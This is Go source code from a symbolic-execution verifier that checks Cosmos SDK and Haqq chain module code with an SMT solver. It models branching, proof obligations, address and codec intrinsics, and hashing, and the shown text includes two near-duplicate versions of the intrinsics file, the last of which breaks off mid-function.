	cs := it.nameTerm(c.(*Sym))
	if d, ok := it.replaying(); ok {
		it.record(d)
		if d == 1 {
			it.assertPC(cs)
		} else {
			it.assertPC(mkNot(cs))
		}
		return d == 1
	}
	canT := it.feasible(cs)
	if !canT {
		it.record(0)
		it.assertPC(mkNot(cs))
		return false
	}
	canF := it.feasible(mkNot(cs))
	if canF {
		alt := append(append([]int{}, it.trace...), 0)
		it.R.enqueue(alt)
	}
	it.record(1)
	it.assertPC(cs)
	return true
}

func (it *Interp) branch(c Value, fr *Frame) bool {
	if p, ok := c.(PoisonV); ok {
		panic(unsupported("branch on poison: " + p.Why))
	}
	return it.branchOn(c)
}

// chooseN makes an n-way concrete nondeterministic choice (all alternatives are explored).
func (it *Interp) chooseN(n int, what string) int {
	if n <= 1 {
		return 0
	}
	if it.initDepth > 0 {
		panic(unsupported("choice during init"))
	}
	if d, ok := it.replaying(); ok {
		it.record(d)
		return d
	}
	for i := 1; i < n; i++ {
		alt := append(append([]int{}, it.trace...), i)
		it.R.enqueue(alt)
	}
	it.record(0)
	return 0
}

// ---------------------------------------------------------------- obligations

// model extracts values of all Any* inputs after a sat answer.
func (it *Interp) model() map[string]string {
	var names []string
	for _, a := range it.anySyms {
		names = append(names, a.Name)
	}
	vals := it.solver.GetValues(names)
	out := map[string]string{}
	for _, a := range it.anySyms {
		if v, ok := vals[a.Name]; ok {
			out[a.Tag] = v
		}
	}
	for k, v := range it.choices {
		out[k] = v
	}
	return out
}

// violation: pc ∧ bad is satisfiable. Returns true if a model was produced.
func (it *Interp) checkObligation(good Value, msg string, kind string) {
	it.obligations++
	it.R.addObligation()
	if b, ok := good.(bool); ok && b {
		it.R.addTrivial()
		it.R.addDischarged(kind + ": " + msg + " (folded to true by the encoder)")
		return
	}
	bad := mkNot(good)
	it.flush()
	it.solver.Send("(push 1)\n(assert " + T(bad) + ")\n")
	r := it.solver.CheckSat()
	it.R.countQuery(r)
	switch {
	case r == "unsat":
		it.solver.Send("(pop 1)\n")
		it.R.addDischarged(kind + ": " + msg)
		// the path continues under the asserted fact
		it.assertPC(good)
	case r == "sat":
		m := it.model()
		it.solver.Send("(pop 1)\n")
		it.R.addViolation(&Violation{Harness: it.R.Harness, Msg: msg, Kind: kind, Model: m, Where: it.where(), Trace: append([]int{}, it.trace...), Params: it.params})
		panic(&pathEnd{why: "violation"})
	default:
		it.solver.Send("(pop 1)\n")
		// try the fallback solver once
		if it.R.fallback(it, bad, msg, kind) {
			return
		}
		it.R.addInconclusive(fmt.Sprintf("%s: %s: solver answered %s at %s", kind, msg, r, it.where()))
		it.assertPC(good)
	}
}

// panicIf records that the real code panics when cond holds. The continuing path assumes ¬cond.
func (it *Interp) panicIf(cond Value, msg string) {
	if b, ok := cond.(bool); ok {
		if b {
			panic(&GoPanic{Msg: msg})
		}
		return
	}
	if it.initDepth > 0 {
		panic(unsupported("symbolic panic condition during init"))
	}
	if it.branchOn(cond) {
		panic(&GoPanic{Msg: msg})
	}
}

// reach records a vacuity witness for tag (one model per tag and harness).
func (it *Interp) reach(tag string) {
	if it.R.haveReach(tag) {
		return
	}
	it.flush()
	r := it.solver.CheckSat()
	it.R.countQuery(r)
	if r == "sat" {
		it.R.addReach(tag, it.model())
	} else if r == "unknown" {
		it.R.note("reach(" + tag + ") unknown")
	}
}

func bigFromDec(s string) *big.Int {
	b, ok := new(big.Int).SetString(s, 10)
	if !ok {
		return big.NewInt(0)
	}
	return b
}

type obsTerm struct {
	Tag  string
	Term string
}

// observe records an output of the real code so that the encoding's value can be compared with the native run.
func (it *Interp) observe(tag string, v Value) {
	switch x := v.(type) {
	case *big.Int:
		it.observed = append(it.observed, obsTerm{tag, lit(x)})
	case bool:
		it.observed = append(it.observed, obsTerm{tag, T(x)})
	case *Sym:
		name := it.freshName("obs")
		srt := "Int"
		if x.S == SBool {
			srt = "Bool"
		}
		it.emit("(define-fun " + name + " () " + srt + " " + x.T + ")")
		it.observed = append(it.observed, obsTerm{tag, name})
	case IntV:
		it.observe(tag, it.intVal(x))
	case DecV:
		it.observe(tag, x.V)
	case TimeV:
		it.observe(tag, x.NS)
	case *CoinsV:
		if x.mat != nil {
			x = it.toCoins(x.mat)
		}
		for _, d := range sortedKeys(x.Amt) {
			it.observe(tag+"."+d, x.Amt[d])
		}
	case *SliceV:
		c := it.toCoins(x)
		it.observe(tag, c)
	case *Ptr:
		it.observe(tag, it.bigVal(x))
	default:
		panic(unsupported(fmt.Sprintf("observe %T", v)))
	}
}

// sampleTrace: at the end of a completed path, ask for one model and evaluate the observed outputs under it.
func (it *Interp) sampleTrace() {
	if len(it.observed) == 0 || !it.R.wantTrace() {
		return
	}
	it.flush()
	r := it.solver.CheckSat()
	it.R.countQuery(r)
	if r != "sat" {
		return
	}
	m := it.model()
	obs := map[string]string{}
	for _, o := range it.observed {
		vals := it.solver.GetValues([]string{o.Term})
		for _, v := range vals {
			obs[o.Tag] = v
		}
		if len(vals) == 0 {
			// constant term
			obs[o.Tag] = strings.Trim(strings.ReplaceAll(strings.ReplaceAll(o.Term, "(- ", "-"), ")", ""), " ")
		}
	}
	it.R.addTrace(&TraceSample{Model: m, Obs: obs})
}
