package gosym

import (
	"encoding/hex"
	"fmt"
	"math/big"
	"strings"
)

// NativeObj is an engine-provided object behind an interface (logger, ...): any method not listed is a no-op.
type NativeObj struct {
	Name    string
	Methods map[string]Intrinsic
}

var nopLogger = &NativeObj{Name: "logger"}

func init() {
	nopLogger.Methods = map[string]Intrinsic{
		"With": func(it *Interp, a []Value) Value { return nopLogger },
	}
}

func (it *Interp) addrBytes(v Value) []byte {
	switch x := v.(type) {
	case *SliceV:
		return it.bytesOf(x)
	case *ArrayV:
		out := make([]byte, len(x.Elems))
		for i, e := range x.Elems {
			out[i] = byte(asBig(e).Uint64())
		}
		return out
	case *Ptr:
		return it.addrBytes(it.load(x))
	}
	panic(unsupported(fmt.Sprintf("address bytes from %T", v)))
}

func (it *Interp) mkByteArray(b []byte) *ArrayV {
	arr := &ArrayV{Elems: make([]Value, len(b))}
	for i := range b {
		arr.Elems[i] = big.NewInt(int64(b[i]))
	}
	return arr
}

func registerSDK(P *Program) {
	nop := func(it *Interp, a []Value) Value { return nil }
	nilErr := func(it *Interp, a []Value) Value { return (*ErrV)(nil) }
	const S = sdkPkg + "."
	P.reg("("+sdkPkg+".Context).Logger", func(it *Interp, a []Value) Value { return nopLogger })
	for _, m := range []string{"EmitEvent", "EmitEvents"} {
		P.reg("(*"+sdkPkg+".EventManager)."+m, nop)
	}
	P.reg("(*"+sdkPkg+".EventManager).EmitTypedEvent", nilErr)
	P.reg("(*"+sdkPkg+".EventManager).EmitTypedEvents", nilErr)
	P.reg(S+"NewEvent", func(it *Interp, a []Value) Value { return it.zero(it.P.Pkgs[sdkPkg].Type("Event").Type()) })
	P.reg(S+"NewAttribute", func(it *Interp, a []Value) Value { return it.zero(it.P.Pkgs[sdkPkg].Type("Attribute").Type()) })
	const tel = "github.com/cosmos/cosmos-sdk/telemetry."
	for _, m := range []string{"ModuleMeasureSince", "ModuleSetGauge", "IncrCounter", "IncrCounterWithLabels", "SetGauge", "SetGaugeWithLabels", "MeasureSince", "NewLabel"} {
		P.reg(tel+m, nop)
	}
	P.reg("github.com/armon/go-metrics.AddSampleWithLabels", nop)
	P.reg("github.com/armon/go-metrics.IncrCounterWithLabels", nop)
	P.reg("github.com/armon/go-metrics.SetGaugeWithLabels", nop)
	P.reg("github.com/armon/go-metrics.SetGauge", nop)
	P.reg("github.com/armon/go-metrics.IncrCounter", nop)
	P.reg("github.com/armon/go-metrics.MeasureSince", nop)
	P.reg("github.com/hashicorp/go-metrics.AddSampleWithLabels", nop)
	P.reg("github.com/hashicorp/go-metrics.IncrCounterWithLabels", nop)
	P.reg("github.com/hashicorp/go-metrics.SetGaugeWithLabels", nop)

	// addresses: injective renaming between bytes and strings (bech32 / hex checksums are not modelled)
	accStr := func(prefix string) Intrinsic {
		return func(it *Interp, a []Value) Value {
			b := it.addrBytes(a[0])
			if len(b) == 0 {
				return ""
			}
			return prefix + hex.EncodeToString(b)
		}
	}
	P.reg("("+sdkPkg+".AccAddress).String", accStr("haqq1"))
	P.reg("("+sdkPkg+".ValAddress).String", accStr("haqqvaloper1"))
	fromBech := func(prefix string) Intrinsic {
		return func(it *Interp, a []Value) Value {
			s, ok := a[0].(string)
			if !ok {
				panic(unsupported("symbolic address string"))
			}
			if strings.TrimSpace(s) == "" {
				return Tuple{&SliceV{}, &ErrV{Root: "sdk/empty-address", Msg: "empty address string is not allowed"}}
			}
			if !strings.HasPrefix(s, prefix) {
				return Tuple{&SliceV{}, &ErrV{Root: "sdk/bad-address", Msg: "invalid bech32 prefix"}}
			}
			b, err := hex.DecodeString(s[len(prefix):])
			if err != nil {
				return Tuple{&SliceV{}, &ErrV{Root: "sdk/bad-address", Msg: "decoding bech32 failed"}}
			}
			return Tuple{it.mkBytes(b), (*ErrV)(nil)}
		}
	}
	P.reg(S+"AccAddressFromBech32", fromBech("haqq1"))
	P.reg(S+"ValAddressFromBech32", fromBech("haqqvaloper1"))
	P.reg(S+"MustAccAddressFromBech32", func(it *Interp, a []Value) Value {
		t := fromBech("haqq1")(it, a).(Tuple)
		if e, _ := t[1].(*ErrV); e != nil {
			panic(&GoPanic{Msg: e.Msg})
		}
		return t[0]
	})
	P.reg(S+"VerifyAddressFormat", func(it *Interp, a []Value) Value {
		b := it.addrBytes(a[0])
		if len(b) == 0 {
			return &ErrV{Root: "sdk/unknown-address", Msg: "addresses cannot be empty"}
		}
		if len(b) > 255 {
			return &ErrV{Root: "sdk/unknown-address", Msg: "address max length is 255"}
		}
		return (*ErrV)(nil)
	})
	const gc = "github.com/ethereum/go-ethereum/common."
	P.reg("("+gc[:len(gc)-1]+".Address).Hex", func(it *Interp, a []Value) Value {
		return "0x" + hex.EncodeToString(it.addrBytes(a[0]))
	})
	P.reg("("+gc[:len(gc)-1]+".Address).String", func(it *Interp, a []Value) Value {
		return "0x" + hex.EncodeToString(it.addrBytes(a[0]))
	})
	P.reg(gc+"HexToAddress", func(it *Interp, a []Value) Value {
		s := strings.TrimPrefix(strings.TrimPrefix(a[0].(string), "0x"), "0X")
		if len(s)%2 == 1 {
			s = "0" + s
		}
		b, _ := hex.DecodeString(s)
		out := make([]byte, 20)
		if len(b) > 20 {
			b = b[len(b)-20:]
		}
		copy(out[20-len(b):], b)
		return it.mkByteArray(out)
	})
	P.reg(gc+"IsHexAddress", func(it *Interp, a []Value) Value {
		s := strings.TrimPrefix(strings.TrimPrefix(a[0].(string), "0x"), "0X")
		_, err := hex.DecodeString(s)
		return len(s) == 40 && err == nil
	})
}
