package gosym

import (
	"crypto/sha256"
	"encoding/hex"
	"fmt"
	"math/big"
	"regexp"
	"strings"

	"golang.org/x/crypto/sha3"
)

// NativeObj is an engine-provided object behind an interface (logger, ...): any method not listed is a no-op.
type NativeObj struct {
	Name    string
	Methods map[string]Intrinsic
}

var nopLogger = &NativeObj{Name: "logger"}

func init() {
	nopLogger.Methods = map[string]Intrinsic{
		"With": func(it *Interp, a []Value) Value { return nopLogger },
	}
}

func (it *Interp) addrBytes(v Value) []byte {
	switch x := v.(type) {
	case *SliceV:
		return it.bytesOf(x)
	case *ArrayV:
		out := make([]byte, len(x.Elems))
		for i, e := range x.Elems {
			out[i] = byte(asBig(e).Uint64())
		}
		return out
	case *Ptr:
		return it.addrBytes(it.load(x))
	}
	panic(unsupported(fmt.Sprintf("address bytes from %T", v)))
}

func (it *Interp) mkByteArray(b []byte) *ArrayV {
	arr := &ArrayV{Elems: make([]Value, len(b))}
	for i := range b {
		arr.Elems[i] = big.NewInt(int64(b[i]))
	}
	return arr
}

func registerSDK(P *Program) {
	nop := func(it *Interp, a []Value) Value { return nil }
	nilErr := func(it *Interp, a []Value) Value { return (*ErrV)(nil) }
	const S = sdkPkg + "."
	P.reg("("+sdkPkg+".Context).Logger", func(it *Interp, a []Value) Value { return nopLogger })
	for _, m := range []string{"EmitEvent", "EmitEvents"} {
		P.reg("(*"+sdkPkg+".EventManager)."+m, nop)
	}
	P.reg("(*"+sdkPkg+".EventManager).EmitTypedEvent", nilErr)
	P.reg("(*"+sdkPkg+".EventManager).EmitTypedEvents", nilErr)
	P.reg(S+"NewEvent", func(it *Interp, a []Value) Value { return it.zero(it.P.Pkgs[sdkPkg].Type("Event").Type()) })
	P.reg(S+"NewAttribute", func(it *Interp, a []Value) Value { return it.zero(it.P.Pkgs[sdkPkg].Type("Attribute").Type()) })
	const tel = "github.com/cosmos/cosmos-sdk/telemetry."
	for _, m := range []string{"ModuleMeasureSince", "ModuleSetGauge", "IncrCounter", "IncrCounterWithLabels", "SetGauge", "SetGaugeWithLabels", "MeasureSince", "NewLabel"} {
		P.reg(tel+m, nop)
	}
	P.reg("github.com/armon/go-metrics.AddSampleWithLabels", nop)
	P.reg("github.com/armon/go-metrics.IncrCounterWithLabels", nop)
	P.reg("github.com/armon/go-metrics.SetGaugeWithLabels", nop)
	P.reg("github.com/armon/go-metrics.SetGauge", nop)
	P.reg("github.com/armon/go-metrics.IncrCounter", nop)
	P.reg("github.com/armon/go-metrics.MeasureSince", nop)
	P.reg("github.com/hashicorp/go-metrics.AddSampleWithLabels", nop)
	P.reg("github.com/hashicorp/go-metrics.IncrCounterWithLabels", nop)
	P.reg("github.com/hashicorp/go-metrics.SetGaugeWithLabels", nop)

	// addresses: injective renaming between bytes and strings (bech32 / hex checksums are not modelled)
	accStr := func(prefix string) Intrinsic {
		return func(it *Interp, a []Value) Value {
			b := it.addrBytes(a[0])
			if len(b) == 0 {
				return ""
			}
			return prefix + hex.EncodeToString(b)
		}
	}
	P.reg(S+"Bech32ifyAddressBytes", func(it *Interp, a []Value) Value {
		prefix, ok := a[0].(string)
		if !ok {
			panic(unsupported("symbolic bech32 prefix"))
		}
		b := it.addrBytes(a[1])
		if len(b) == 0 {
			return Tuple{"", (*ErrV)(nil)}
		}
		return Tuple{bech32Encode(prefix, b), (*ErrV)(nil)}
	})
	P.reg(S+"MustBech32ifyAddressBytes", func(it *Interp, a []Value) Value {
		prefix, ok := a[0].(string)
		if !ok {
			panic(unsupported("symbolic bech32 prefix"))
		}
		b := it.addrBytes(a[1])
		if len(b) == 0 {
			return ""
		}
		return bech32Encode(prefix, b)
	})
	P.reg("("+sdkPkg+".AccAddress).String", accStr("haqq1"))
	P.reg("("+sdkPkg+".ValAddress).String", accStr("haqqvaloper1"))
	fromBech := func(prefix string) Intrinsic {
		return func(it *Interp, a []Value) Value {
			s, ok := a[0].(string)
			if !ok {
				panic(unsupported("symbolic address string"))
			}
			if strings.TrimSpace(s) == "" {
				return Tuple{&SliceV{}, &ErrV{Root: "sdk/empty-address", Msg: "empty address string is not allowed"}}
			}
			if s == strings.ToUpper(s) && s != strings.ToLower(s) {
				s = strings.ToLower(s) // bech32 admits an all upper-case spelling of the same address
			}
			if !strings.HasPrefix(s, prefix) {
				return Tuple{&SliceV{}, &ErrV{Root: "sdk/bad-address", Msg: "invalid bech32 prefix"}}
			}
			b, err := hex.DecodeString(s[len(prefix):])
			if err != nil {
				return Tuple{&SliceV{}, &ErrV{Root: "sdk/bad-address", Msg: "decoding bech32 failed"}}
			}
			return Tuple{it.mkBytes(b), (*ErrV)(nil)}
		}
	}
	P.reg(S+"AccAddressFromBech32", fromBech("haqq1"))
	P.reg(S+"ValAddressFromBech32", fromBech("haqqvaloper1"))
	P.reg(S+"MustAccAddressFromBech32", func(it *Interp, a []Value) Value {
		t := fromBech("haqq1")(it, a).(Tuple)
		if e, _ := t[1].(*ErrV); e != nil {
			panic(&GoPanic{Msg: e.Msg})
		}
		return t[0]
	})
	P.reg(S+"VerifyAddressFormat", func(it *Interp, a []Value) Value {
		b := it.addrBytes(a[0])
		if len(b) == 0 {
			return &ErrV{Root: "sdk/unknown-address", Msg: "addresses cannot be empty"}
		}
		if len(b) > 255 {
			return &ErrV{Root: "sdk/unknown-address", Msg: "address max length is 255"}
		}
		return (*ErrV)(nil)
	})
	const gc = "github.com/ethereum/go-ethereum/common."
	P.reg("("+gc[:len(gc)-1]+".Address).Hex", func(it *Interp, a []Value) Value {
		return "0x" + hex.EncodeToString(it.addrBytes(a[0]))
	})
	P.reg("("+gc[:len(gc)-1]+".Address).String", func(it *Interp, a []Value) Value {
		return "0x" + hex.EncodeToString(it.addrBytes(a[0]))
	})
	P.reg(gc+"HexToAddress", func(it *Interp, a []Value) Value {
		s := strings.TrimPrefix(strings.TrimPrefix(a[0].(string), "0x"), "0X")
		if len(s)%2 == 1 {
			s = "0" + s
		}
		b, _ := hex.DecodeString(s)
		out := make([]byte, 20)
		if len(b) > 20 {
			b = b[len(b)-20:]
		}
		copy(out[20-len(b):], b)
		return it.mkByteArray(out)
	})
	P.reg(gc+"IsHexAddress", func(it *Interp, a []Value) Value {
		s := strings.TrimPrefix(strings.TrimPrefix(a[0].(string), "0x"), "0X")
		_, err := hex.DecodeString(s)
		return len(s) == 40 && err == nil
	})
}

// deepClone copies a value including everything reachable through pointers (proto.Clone semantics).
func (it *Interp) deepClone(v Value, seen map[*Cell]*Cell) Value {
	switch x := v.(type) {
	case *StructV:
		n := &StructV{T: x.T, Fields: make([]Value, len(x.Fields))}
		for i, f := range x.Fields {
			n.Fields[i] = it.deepClone(f, seen)
		}
		return n
	case *ArrayV:
		n := &ArrayV{Elems: make([]Value, len(x.Elems))}
		for i, f := range x.Elems {
			n.Elems[i] = it.deepClone(f, seen)
		}
		return n
	case *BigV:
		return &BigV{V: x.V}
	case *Ptr:
		if x == nil {
			return x
		}
		nc, ok := seen[x.C]
		if !ok {
			nc = it.newCell(nil, x.C.Name)
			seen[x.C] = nc
			nc.V = it.deepClone(x.C.V, seen)
		}
		return &Ptr{C: nc, Path: append([]int{}, x.Path...)}
	case *SliceV:
		if x.Arr == nil {
			return x
		}
		nc, ok := seen[x.Arr]
		if !ok {
			nc = it.newCell(nil, x.Arr.Name)
			seen[x.Arr] = nc
			nc.V = it.deepClone(x.Arr.V, seen)
		}
		return &SliceV{Arr: nc, Off: x.Off, Len: x.Len, Cap: x.Cap}
	case *IfaceV:
		if x == nil {
			return x
		}
		return &IfaceV{T: x.T, V: it.deepClone(x.V, seen)}
	case *MapV:
		if x == nil {
			return x
		}
		it.cellSeq++
		n := &MapV{M: map[string]*mapEntry{}, id: it.cellSeq, Keys: append([]string{}, x.Keys...)}
		for k, e := range x.M {
			n.M[k] = &mapEntry{K: e.K, V: it.deepClone(e.V, seen)}
		}
		return n
	case *CoinsV:
		if x.mat != nil {
			return it.deepClone(x.mat, seen)
		}
		n := &CoinsV{Amt: map[string]Value{}}
		for k, a := range x.Amt {
			n.Amt[k] = a
		}
		return n
	case *DecCoinsV:
		n := &DecCoinsV{Amt: map[string]Value{}}
		for k, a := range x.Amt {
			n.Amt[k] = a
		}
		return n
	}
	return v
}

func (it *Interp) msgPtr(v Value) (*Ptr, string) {
	iv, ok := v.(*IfaceV)
	if !ok || iv == nil {
		panic(unsupported(fmt.Sprintf("codec: expected a proto message pointer, got %T", v)))
	}
	p, ok := iv.V.(*Ptr)
	if !ok {
		panic(unsupported(fmt.Sprintf("codec: message is not a pointer (%T)", iv.V)))
	}
	return p, iv.T.String()
}

var blobCodec = &NativeObj{Name: "codec"}

func init() {
	marshal := func(it *Interp, a []Value) Value {
		p, k := it.msgPtr(a[0])
		if p == nil {
			it.nilDeref()
		}
		return &BlobV{Kind: "proto:" + k, V: it.deepClone(it.load(p), map[*Cell]*Cell{})}
	}
	unmarshal := func(it *Interp, a []Value) *ErrV {
		p, k := it.msgPtr(a[1])
		switch bz := a[0].(type) {
		case *BlobV:
			if bz.Kind != "proto:"+k {
				return &ErrV{Root: "codec/unmarshal", Msg: "blob of type " + bz.Kind + " decoded as " + k}
			}
			it.storeTo(p, it.deepClone(bz.V, map[*Cell]*Cell{}))
			return nil
		case *SliceV:
			if bz.Len == 0 {
				// empty input decodes to the zero message
				return nil
			}
		}
		panic(unsupported("codec.Unmarshal of concrete bytes"))
	}
	blobCodec.Methods = map[string]Intrinsic{
		"Marshal":     func(it *Interp, a []Value) Value { return Tuple{marshal(it, a), (*ErrV)(nil)} },
		"MustMarshal": func(it *Interp, a []Value) Value { return marshal(it, a) },
		"Unmarshal": func(it *Interp, a []Value) Value {
			if e := unmarshal(it, a); e != nil {
				return e
			}
			return (*ErrV)(nil)
		},
		"MustUnmarshal": func(it *Interp, a []Value) Value {
			if e := unmarshal(it, a); e != nil {
				panic(&GoPanic{Msg: e.Msg})
			}
			return nil
		},
	}
	blobCodec.Methods["MarshalLengthPrefixed"] = blobCodec.Methods["Marshal"]
	blobCodec.Methods["MustMarshalLengthPrefixed"] = blobCodec.Methods["MustMarshal"]
	blobCodec.Methods["UnmarshalLengthPrefixed"] = blobCodec.Methods["Unmarshal"]
	blobCodec.Methods["MustUnmarshalLengthPrefixed"] = blobCodec.Methods["MustUnmarshal"]
}

func registerSDK2(P *Program) {
	nop := func(it *Interp, a []Value) Value { return nil }
	for _, pk := range []string{"github.com/cosmos/gogoproto/proto", "github.com/golang/protobuf/proto", "github.com/gogo/protobuf/proto"} {
		for _, f := range []string{"RegisterType", "RegisterFile", "RegisterEnum", "RegisterExtension", "RegisterMapType", "GoGoProtoPackageIsVersion3", "RegisterCustomTypeURL"} {
			P.reg(pk+"."+f, nop)
		}
	}
	P.reg("github.com/cosmos/cosmos-sdk/types/msgservice.RegisterMsgServiceDesc", nop)
	for _, pk := range []string{"github.com/cosmos/gogoproto/proto", "github.com/golang/protobuf/proto", "github.com/gogo/protobuf/proto"} {
		P.reg(pk+".MessageName", func(it *Interp, a []Value) Value {
			iv, ok := a[0].(*IfaceV)
			if !ok || iv == nil {
				return ""
			}
			if n, ok := it.P.ProtoNames[iv.T.String()]; ok {
				return n
			}
			panic(unsupported("proto.MessageName of unregistered type " + iv.T.String()))
		})
		P.reg(pk+".Marshal", func(it *Interp, a []Value) Value {
			p, k := it.msgPtr(a[0])
			if p == nil {
				return Tuple{&SliceV{}, (*ErrV)(nil)}
			}
			return Tuple{&BlobV{Kind: "proto:" + k, V: it.deepClone(it.load(p), map[*Cell]*Cell{})}, (*ErrV)(nil)}
		})
	}
	registerRegexp(P)
	const pt = "github.com/cosmos/cosmos-sdk/x/params/types"
	P.reg("("+pt+".KeyTable).RegisterParamSet", func(it *Interp, a []Value) Value { return a[0] })
	P.reg("("+pt+".Subspace).WithKeyTable", func(it *Interp, a []Value) Value { return a[0] })
	P.reg("("+pt+".Subspace).HasKeyTable", func(it *Interp, a []Value) Value { return true })
	P.reg("zzverif.Codec", func(it *Interp, a []Value) Value { return blobCodec })
	P.reg("zzverif.CodecFull", func(it *Interp, a []Value) Value { return blobCodec })
	P.reg("github.com/cosmos/gogoproto/proto.Clone", func(it *Interp, a []Value) Value {
		iv, ok := a[0].(*IfaceV)
		if !ok || iv == nil {
			return a[0]
		}
		return &IfaceV{T: iv.T, V: it.deepClone(iv.V, map[*Cell]*Cell{})}
	})
	P.reg(sdkPkg+".Uint64ToBigEndian", func(it *Interp, a []Value) Value {
		if b, ok := a[0].(*big.Int); ok {
			out := make([]byte, 8)
			b.FillBytes(out)
			return it.mkBytes(out)
		}
		return &BlobV{Kind: "u64be", V: a[0]}
	})
	P.reg(sdkPkg+".BigEndianToUint64", func(it *Interp, a []Value) Value {
		switch bz := a[0].(type) {
		case *BlobV:
			if bz.Kind == "u64be" {
				return bz.V
			}
			panic(unsupported("BigEndianToUint64 of blob " + bz.Kind))
		case *SliceV:
			b := it.bytesOf(bz)
			if len(b) == 0 {
				return big.NewInt(0)
			}
			if len(b) < 8 {
				panic(&GoPanic{Msg: "runtime error: index out of range"})
			}
			return new(big.Int).SetBytes(b[:8])
		}
		panic(unsupported("BigEndianToUint64"))
	})
}

// generated protobuf methods (*T).Marshal / Unmarshal / Size as typed blobs --------------------------------

func pbKind(it *Interp, p *Ptr) string {
	if sv, ok := it.load(p).(*StructV); ok && sv.T != nil {
		return "proto:*" + sv.T.String()
	}
	return "proto:?"
}

func pbMarshal(it *Interp, a []Value) Value {
	p := a[0].(*Ptr)
	if p == nil {
		it.nilDeref()
	}
	return Tuple{&BlobV{Kind: pbKind(it, p), V: it.deepClone(it.load(p), map[*Cell]*Cell{})}, (*ErrV)(nil)}
}

func pbUnmarshal(it *Interp, a []Value) Value {
	p := a[0].(*Ptr)
	switch bz := a[1].(type) {
	case *BlobV:
		if bz.Kind != pbKind(it, p) {
			return &ErrV{Root: "proto/unmarshal", Msg: "blob of type " + bz.Kind + " decoded as " + pbKind(it, p)}
		}
		it.storeTo(p, it.deepClone(bz.V, map[*Cell]*Cell{}))
		return (*ErrV)(nil)
	case *SliceV:
		if bz.Len == 0 {
			return (*ErrV)(nil)
		}
	}
	panic(unsupported("proto Unmarshal of concrete bytes"))
}

func pbSize(it *Interp, a []Value) Value {
	p := a[0].(*Ptr)
	return it.blobLen(&BlobV{Kind: pbKind(it, p), V: nil})
}

// RegexpV is a natively compiled regular expression (patterns and subjects are concrete).
type RegexpV struct{ Re *regexp.Regexp }

// concDigest renders a concrete value (through pointers) canonically; false when any part of it is symbolic or opaque.
func (it *Interp) concDigest(sb *strings.Builder, v Value, depth int) bool {
	if depth > 12 {
		return false
	}
	switch x := v.(type) {
	case nil:
		sb.WriteString("nil;")
	case bool:
		fmt.Fprintf(sb, "b%v;", x)
	case *big.Int:
		fmt.Fprintf(sb, "i%s;", x.String())
	case string:
		if strings.Contains(x, symStrMark) {
			return false
		}
		fmt.Fprintf(sb, "s%q;", x)
	case *Ptr:
		if x == nil {
			sb.WriteString("nilptr;")
			return true
		}
		sb.WriteString("&")
		return it.concDigest(sb, it.load(x), depth+1)
	case *BigV:
		return it.concDigest(sb, x.V, depth+1)
	case *StructV:
		sb.WriteString("{")
		for _, f := range x.Fields {
			if !it.concDigest(sb, f, depth+1) {
				return false
			}
		}
		sb.WriteString("}")
	case *ArrayV:
		sb.WriteString("[")
		for _, e := range x.Elems {
			if !it.concDigest(sb, e, depth+1) {
				return false
			}
		}
		sb.WriteString("]")
	case *SliceV:
		if x == nil || x.Arr == nil {
			sb.WriteString("nilslice;")
			return true
		}
		sb.WriteString("<")
		for _, e := range x.Arr.V.(*ArrayV).Elems[x.Off : x.Off+x.Len] {
			if !it.concDigest(sb, e, depth+1) {
				return false
			}
		}
		sb.WriteString(">")
	case *IfaceV:
		if x == nil {
			sb.WriteString("niliface;")
			return true
		}
		fmt.Fprintf(sb, "(%s)", x.T.String())
		return it.concDigest(sb, x.V, depth+1)
	default:
		return false
	}
	return true
}

func registerCrypto(P *Program) {
	const gc = "github.com/ethereum/go-ethereum/crypto."
	keccak := func(it *Interp, a []Value) []byte {
		h := sha3.NewLegacyKeccak256()
		s := it.asSlice(a[0])
		if s.Len > 0 {
			for _, e := range s.Arr.V.(*ArrayV).Elems[s.Off : s.Off+s.Len] {
				if isBlob(e) {
					panic(unsupported("keccak of a symbolic blob"))
				}
				h.Write(it.concBytes(e))
			}
		}
		return h.Sum(nil)
	}
	// transaction hashing (RLP + keccak) is outside every claim: a fixed value, documented as uninterpreted
	// A fully concrete transaction gets a digest of its content instead (not the Ethereum hash: harnesses only compare hashes
	// with each other), so that distinct transactions have distinct hashes and equal ones equal hashes.
	P.reg("(*github.com/ethereum/go-ethereum/core/types.Transaction).Hash", func(it *Interp, a []Value) Value {
		if p, ok := a[0].(*Ptr); ok && p != nil {
			if st, ok := it.load(p).(*StructV); ok && len(st.Fields) > 0 {
				var sb strings.Builder
				if it.concDigest(&sb, st.Fields[0], 0) {
					h := sha256.Sum256([]byte(sb.String()))
					return it.mkByteArray(h[:])
				}
			}
		}
		return it.mkByteArray(make([]byte, 32))
	})
	// JSON rendering of call arguments for gas estimation: content irrelevant to every claim
	P.reg("encoding/json.Marshal", func(it *Interp, a []Value) Value { return Tuple{it.mkBytes([]byte("{}")), (*ErrV)(nil)} })
	P.reg("crypto/sha256.Sum256", func(it *Interp, a []Value) Value {
		h := sha256.Sum256(it.concBytes(a[0]))
		return it.mkByteArray(h[:])
	})
	P.reg(gc+"Keccak256", func(it *Interp, a []Value) Value { return it.mkBytes(keccak(it, a)) })
	P.reg(gc+"Keccak256Hash", func(it *Interp, a []Value) Value { return it.mkByteArray(keccak(it, a)) })
	// CreateAddress(sender, nonce) = keccak(rlp(sender, nonce))[12:]: evaluated natively for a concrete nonce; for a symbolic
	// nonce the address is an unspecified constant (no claim depends on the address of a created contract)
	P.reg(gc+"CreateAddress", func(it *Interp, a []Value) Value {
		addr := it.concBytes(it.asSlice(&SliceV{Arr: it.newCell(a[0].(*ArrayV), "addr"), Len: 20, Cap: 20}))
		if n, ok := a[1].(*big.Int); ok {
			var ad [20]byte
			copy(ad[:], addr)
			out := ethCreateAddress(ad, n.Uint64())
			return it.mkByteArray(out[:])
		}
		out := make([]byte, 20)
		out[0], out[19] = 0xC0, 0x01
		return it.mkByteArray(out)
	})
}

func registerRegexp(P *Program) {
	registerCrypto(P)
	P.reg("regexp.MustCompile", func(it *Interp, a []Value) Value {
		re, err := regexp.Compile(a[0].(string))
		if err != nil {
			panic(&GoPanic{Msg: "regexp: " + err.Error()})
		}
		return &RegexpV{Re: re}
	})
	P.reg("regexp.Compile", func(it *Interp, a []Value) Value {
		re, err := regexp.Compile(a[0].(string))
		if err != nil {
			return Tuple{(*Ptr)(nil), &ErrV{Root: "regexp", Msg: err.Error()}}
		}
		return Tuple{&RegexpV{Re: re}, (*ErrV)(nil)}
	})
	re := func(it *Interp, v Value) *regexp.Regexp {
		it.checkPoison(v)
		r, ok := v.(*RegexpV)
		if !ok {
			panic(unsupported(fmt.Sprintf("regexp receiver %T", v)))
		}
		return r.Re
	}
